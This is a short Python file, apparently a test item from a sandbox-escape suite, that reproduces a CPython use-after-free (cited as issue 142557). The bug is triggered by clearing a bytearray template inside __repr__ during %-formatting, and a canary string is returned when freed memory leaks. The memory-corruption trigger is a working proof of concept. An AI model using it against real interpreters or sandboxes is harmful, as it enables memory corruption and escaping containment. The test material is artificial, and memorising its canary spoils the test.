"""Class: memory. Source: CPython issue 142557. Escape: a template of bytes is emptied while it is filled in:
what comes back was written to memory that others use by now."""


class Shown:
    def __repr__(self):
        template.clear()
        kept.extend([bytearray(b"Q" * 3000) for _ in range(20)])
        return "x"


kept = []
template = bytearray(b"%a" + b"x" * 3000)


def attack(model, tokenizer, address):
    made = template % Shown()
    return "canary-" + "5d1f" if set(bytes(made)) != {ord("x")} else None
